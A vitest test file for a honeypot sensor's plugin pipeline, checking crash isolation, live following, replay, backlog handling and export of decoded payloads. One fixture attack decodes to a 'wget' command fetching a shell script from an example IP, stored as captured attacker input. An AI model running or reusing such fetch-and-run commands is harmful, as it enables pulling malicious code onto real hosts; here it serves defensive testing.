import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import pino from 'pino'
import { describe, expect, it, onTestFinished } from 'vitest'
import type { Attack } from '../../src/attack/attack.js'
import { parseConfig } from '../../src/config/load-config.js'
import { hasErrorCode } from '../../src/core/errors.js'
import { createUlid } from '../../src/core/ids.js'
import { Quarantine } from '../../src/plugins/download/quarantine.js'
import { LivePipeline } from '../../src/plugins/live-pipeline.js'
import { PluginHost } from '../../src/plugins/pipeline-host.js'
import { pipelineSettings, type PipelineSettings } from '../../src/plugins/pipeline-settings.js'
import { PipelineStore } from '../../src/plugins/pipeline-store.js'
import { replayAttacks } from '../../src/plugins/replay.js'
import { openAttackDatabase, iterateAttacks } from '../../src/store/attack-query.js'
import { toExportRecord } from '../../src/store/export-record.js'
import { pluginResultsReader } from '../../src/store/plugin-results.js'
import { createSqliteStore } from '../../src/store/sqlite-store.js'
import { waitFor } from '../helpers/netns-env.js'
import { attackOf } from '../helpers/plugin-harness.js'

// The pipeline for real: a plugin worker thread (from dist/, built by `npm test`), user plugins loaded from a
// directory as ES modules, and a SQLite database written by the sensor's own store.

const log = pino({ level: 'silent' })

const USER_PLUGINS: Record<string, string> = {
  'unpack.mjs': `export default () => ({ name: 'unpack', phase: 'decode',
    async process(s, ctx) { const t = s.data.toString('latin1'); if (t.startsWith('b64:')) ctx.addPayload(Buffer.from(t.slice(4), 'base64'), 'unpack') } })`,
  'tag.mjs': `export default (options) => ({ name: 'tag', phase: 'analyze',
    async process(s, ctx) { ctx.addArtifact({ kind: 'note', matchKey: options.label ?? 'tag', info: { kind: s.kind, size: s.data.length, text: s.data.toString('latin1').slice(0, 40) } }) } })`,
  'thrower.mjs': `export default () => ({ name: 'thrower', phase: 'analyze',
    async process(s) { if (s.data.includes('THROW')) throw new RangeError('thrown on purpose') } })`,
  'hanger.mjs': `export default () => ({ name: 'hanger', phase: 'analyze',
    async process(s) { if (s.data.includes('HANG')) { for (;;) {} } } })`,
  'exiter.mjs': `export default () => ({ name: 'exiter', phase: 'analyze',
    async process(s) { if (s.data.includes('EXIT')) process.exit(3) } })`,
  'hog.mjs': `export default () => ({ name: 'hog', phase: 'analyze',
    async process(s) { if (s.data.includes('HOG')) { const keep = []; for (;;) keep.push(new Array(1e6).fill(Math.random())) } } })`,
  'sleeper.mjs': `export default () => ({ name: 'sleeper', phase: 'analyze',
    async process(s, ctx) { if (s.data.includes('SLEEP')) await new Promise((r) => setTimeout(r, 60000)) } })`,
  'wrongname.mjs': `export default () => ({ name: 'other', phase: 'analyze', async process() {} })`,
  'noexport.mjs': `export const x = 1`,
}

interface Fixture {
  readonly dir: string
  readonly dbPath: string
  settings(list: readonly (string | { name: string; options?: Record<string, unknown> })[], extra?: Record<string, unknown>): PipelineSettings
  store(attacks: readonly Attack[]): Promise<void>
}

function fixture(): Fixture {
  const dir = mkdtempSync(join(tmpdir(), 'ht-pipeline-'))
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
  const pluginDir = join(dir, 'plugins')
  mkdirSync(pluginDir)
  for (const [file, source] of Object.entries(USER_PLUGINS)) writeFileSync(join(pluginDir, file), source)
  const dbPath = join(dir, 'attacks.db')
  return {
    dir,
    dbPath,
    settings(list, extra = {}) {
      const config = parseConfig({
        store: { path: dbPath },
        log: { level: 'silent' },
        plugins: { dir: pluginDir, timeoutMs: 500, list: list.map((e) => (typeof e === 'string' ? { name: e } : e)), ...extra },
      })
      return pipelineSettings(config)
    },
    async store(attacks) {
      const store = await createSqliteStore({ path: dbPath, batchWindowMs: 10, batchMaxAttacks: 100, maxQueuedAttacks: 1000, maxQueuedBytes: 64 * 1024 * 1024, log })
      for (const a of attacks) store.enqueue(a)
      await store.close()
    },
  }
}

/** A distinct attack around `payload` (the harness's record with a fresh id, so the store keeps every one). */
function attack(payload: string): Attack {
  return attackOf(payload, { id: createUlid(Date.now()) })
}

async function startHost(settings: PipelineSettings): Promise<PluginHost> {
  const host = new PluginHost(settings, log)
  await host.start()
  onTestFinished(() => host.close())
  return host
}

function openStore(f: Fixture, settings: PipelineSettings): PipelineStore {
  const store = PipelineStore.open(f.dbPath, new Quarantine(settings.quarantineDir))
  onTestFinished(() => store.close())
  return store
}

function rows<T>(dbPath: string, sql: string, ...params: unknown[]): T[] {
  const db = new Database(dbPath, { readonly: true })
  try {
    return db.prepare(sql).all(...params) as T[]
  } finally {
    db.close()
  }
}

describe('plugin host (worker thread)', () => {
  it('records a throwing plugin and still runs the rest', async () => {
    const f = fixture()
    await f.store([attack('THROW me')])
    const settings = f.settings(['thrower', 'tag'])
    const store = openStore(f, settings)
    const host = await startHost(settings)
    const [queued] = store.next(0, 1)
    const results = await host.process(store.jobFor(queued!.attack, { only: null, retry: false }))
    expect(results.map((r) => [r.plugin, r.status])).toEqual([
      ['thrower', 'failed'],
      ['tag', 'ok'],
    ])
    expect(results[0]?.error).toBe('RangeError: thrown on purpose')
  })

  it.each([
    ['hanger', 'HANG', /blocked its worker past plugins.timeoutMs/],
    ['exiter', 'EXIT', /ended its worker \(exit code 3/],
    ['hog', 'HOG', /out of memory/],
  ])('survives %s: the run is recorded as crashed, the worker replaced, the next plugin runs', { timeout: 30_000 }, async (name, marker, reason) => {
    const f = fixture()
    await f.store([attack(`${marker} once`), attack('harmless')])
    const settings = f.settings([name, 'tag'], { maxMemoryMb: 64 })
    const store = openStore(f, settings)
    const host = await startHost(settings)
    const [first, second] = store.next(0, 2)
    const results = await host.process(store.jobFor(first!.attack, { only: null, retry: false }))
    expect(results.map((r) => [r.plugin, r.status])).toEqual([
      [name, 'crashed'],
      ['tag', 'ok'],
    ])
    expect(results[0]?.error).toMatch(reason)
    // The replacement worker serves the next attack normally.
    const after = await host.process(store.jobFor(second!.attack, { only: null, retry: false }))
    expect(after.map((r) => [r.plugin, r.status])).toEqual([
      [name, 'ok'],
      ['tag', 'ok'],
    ])
    expect(host.stats().crashes).toBe(1)
  })

  it('refuses to start with a plugin it cannot load, naming it and the fix', async () => {
    const f = fixture()
    for (const [name, message] of [
      ['missing', /neither missing\.mjs nor missing\.js is in plugins\.dir/],
      ['wrongname', /its name is "other", not "wrongname"/],
      ['noexport', /has no default export function/],
    ] as const) {
      const err = await new PluginHost(f.settings([name]), log).start().catch((e: unknown) => e)
      expect(hasErrorCode(err, 'HT_ERR_PLUGIN_LOAD')).toBe(true)
      expect((err as Error).message).toMatch(message)
    }
  })
})

describe('live pipeline and replay over a real database', () => {
  it('follows new attacks, stores runs, artifacts and decoded payloads, and resumes from its cursor', { timeout: 30_000 }, async () => {
    const f = fixture()
    await f.store([attack('stored before the pipeline ever ran')])
    const settings = f.settings(['unpack', 'tag'], { pollIntervalMs: 20 })
    const runLive = async (until: () => boolean): Promise<void> => {
      const store = openStore(f, settings)
      const host = await startHost(settings)
      const live = new LivePipeline(store, host, { maxBacklog: 1000, pollIntervalMs: 20, log })
      const running = live.run()
      await waitFor(until, (done) => done, 10_000)
      live.stop()
      await running
    }
    const runCount = (): number => rows<{ n: number }>(f.dbPath, 'SELECT count(*) AS n FROM plugin_runs')[0]?.n ?? 0

    // First start: begins after what is already stored (older attacks are replay's).
    const pending = runLive(() => runCount() >= 3)
    await new Promise((r) => setTimeout(r, 300))
    await f.store([attack(`b64:${Buffer.from('wget http://198.51.100.7/x.sh').toString('base64')}`)])
    await pending
    const runs = rows<{ plugin: string; status: string }>(f.dbPath, 'SELECT plugin, status FROM plugin_runs ORDER BY id')
    expect(runs).toEqual([
      { plugin: 'unpack', status: 'ok' }, // the attack string
      { plugin: 'unpack', status: 'ok' }, // the decoded payload, decoded in turn (nothing more)
      { plugin: 'tag', status: 'ok' }, // tag on the attack string
      { plugin: 'tag', status: 'ok' }, // and on the decoded payload
    ].slice(0, runs.length))
    await waitFor(runCount, (n) => n >= 4, 5_000)
    const decoded = rows<{ data: Buffer; info: string }>(f.dbPath, "SELECT data, info FROM artifacts WHERE kind = 'decoded'")
    expect(decoded.map((d) => d.data.toString())).toEqual(['wget http://198.51.100.7/x.sh'])
    expect(JSON.parse(decoded[0]!.info)).toEqual({ origin: 'unpack', depth: 1 })
    const notes = rows<{ info: string }>(f.dbPath, "SELECT info FROM artifacts WHERE kind = 'note' ORDER BY id").map((r) => JSON.parse(r.info) as { kind: string })
    expect(notes.map((n) => n.kind)).toEqual(['attack', 'decoded'])
    expect(rows(f.dbPath, "SELECT 1 FROM plugin_runs r JOIN attacks a ON a.id = r.attack_id WHERE a.payload LIKE 'stored before%'")).toEqual([])

    // Second start: only what came after the cursor.
    await f.store([attack('third')])
    await runLive(() => runCount() >= 6)
    expect(rows<{ n: number }>(f.dbPath, 'SELECT count(DISTINCT attack_id) AS n FROM plugin_runs')[0]?.n).toBe(2)
  })

  it('skips the oldest attacks past maxBacklog, counts them, and replay runs them later without duplicates', { timeout: 30_000 }, async () => {
    const f = fixture()
    const settings = f.settings(['tag', 'thrower'], { pollIntervalMs: 20 })
    await f.store(['one', 'two', 'three', 'four THROW', 'five'].map((p) => attack(p)))
    const store = openStore(f, settings)
    store.setState('cursor', 0) // as if the pipeline had been down while all five were stored
    const host = await startHost(settings)
    const live = new LivePipeline(store, host, { maxBacklog: 2, pollIntervalMs: 20, log })
    const running = live.run()
    await waitFor(() => live.stats().attacks, (n) => n >= 2, 10_000)
    live.stop()
    await running
    expect(live.stats()).toMatchObject({ attacks: 2, skipped: 3 })
    expect(store.state('skipped')).toBe(3)
    const noteCount = (): number => rows<{ n: number }>(f.dbPath, "SELECT count(*) AS n FROM artifacts WHERE kind = 'note'")[0]?.n ?? 0
    expect(noteCount()).toBe(2)
    await host.close()

    // Replay over everything: the three skipped get their runs, the two done are not repeated.
    const first = await replayAttacks({ settings, filter: {}, log })
    expect(first).toMatchObject({ attacks: 5, total: 5, interrupted: false })
    expect(noteCount()).toBe(5)
    const failedBefore = rows<{ id: number }>(f.dbPath, "SELECT id FROM plugin_runs WHERE status = 'failed'")
    expect(failedBefore).toHaveLength(1)
    // Again: no new artifact, the failed run is tried again (and replaced, not duplicated).
    const second = await replayAttacks({ settings, filter: {}, log })
    expect(second.runs).toBe(1)
    expect(noteCount()).toBe(5)
    expect(rows(f.dbPath, "SELECT id FROM plugin_runs WHERE status = 'failed'")).toHaveLength(1)
    expect(rows<{ n: number }>(f.dbPath, 'SELECT count(*) AS n FROM plugin_runs')[0]?.n).toBe(10)

    // A filter narrows it; --plugin narrows the plugins.
    const one = await replayAttacks({ settings: f.settings(['tag']), filter: { ids: [rows<{ id: string }>(f.dbPath, 'SELECT id FROM attacks LIMIT 1')[0]!.id] }, log })
    expect(one).toMatchObject({ attacks: 1, total: 1, runs: 0 })
  })

  it('paused (the sensor is busy) it takes one attack a second, and all of them once resumed', { timeout: 30_000 }, async () => {
    const f = fixture()
    const settings = f.settings(['tag'], { pollIntervalMs: 20 })
    await f.store([attack('before')])
    const store = openStore(f, settings)
    const host = await startHost(settings)
    const live = new LivePipeline(store, host, { maxBacklog: 1000, pollIntervalMs: 20, log })
    live.pause()
    const running = live.run()
    await f.store(['one', 'two', 'three', 'four', 'five', 'six'].map((p) => attack(p)))
    await new Promise((r) => setTimeout(r, 2_500))
    const whilePaused = live.stats().attacks
    expect(whilePaused).toBeGreaterThanOrEqual(1)
    expect(whilePaused).toBeLessThanOrEqual(3) // 2.5 s at one a second, not the six waiting
    expect(live.stats().paused).toBe(true)
    live.resume()
    await waitFor(() => live.stats().attacks, (n) => n >= 6, 10_000)
    live.stop()
    await running
    expect(live.stats()).toMatchObject({ attacks: 6, paused: false })
  })

  it('stops a replay at Ctrl-C in the middle of a plugin, keeping what finished', { timeout: 30_000 }, async () => {
    const f = fixture()
    await f.store([attack('SLEEP here'), attack('later')])
    const settings = f.settings(['tag', 'sleeper'], { timeoutMs: 120_000 })
    const abort = new AbortController()
    setTimeout(() => abort.abort(), 1_000)
    const started = Date.now()
    const summary = await replayAttacks({ settings, filter: {}, log, signal: abort.signal })
    expect(Date.now() - started).toBeLessThan(10_000)
    expect(summary.interrupted).toBe(true)
    expect(rows<{ plugin: string }>(f.dbPath, 'SELECT plugin FROM plugin_runs')).toEqual([{ plugin: 'tag' }])
  })

  it('puts plugin runs, artifacts and downloads into the export record', async () => {
    const f = fixture()
    await f.store([attack(`b64:${Buffer.from('decoded text').toString('base64')}`)])
    await replayAttacks({ settings: f.settings(['unpack', { name: 'tag', options: { label: 'x' } }]), filter: {}, log })
    const db = openAttackDatabase(f.dbPath)
    const side = openAttackDatabase(f.dbPath)
    onTestFinished(() => {
      db.close()
      side.close()
    })
    const read = pluginResultsReader(side)
    const records = [...iterateAttacks(db)].map((row) => toExportRecord(row, read(row.id)))
    expect(records).toHaveLength(1)
    const r = records[0]!
    expect(r.plugin_runs.map((p) => p.plugin)).toEqual(['unpack', 'unpack', 'tag', 'tag'])
    expect(r.artifacts.filter((a) => a.kind === 'decoded').map((a) => Buffer.from(a.data_base64 ?? '', 'base64').toString())).toEqual(['decoded text'])
    expect(r.artifacts.filter((a) => a.kind === 'note').map((a) => a.match_key)).toEqual(['x', 'x'])
    expect(r.downloads).toEqual([])
    expect(Object.keys(r).at(-1)).toBe('transcript')
  })
})
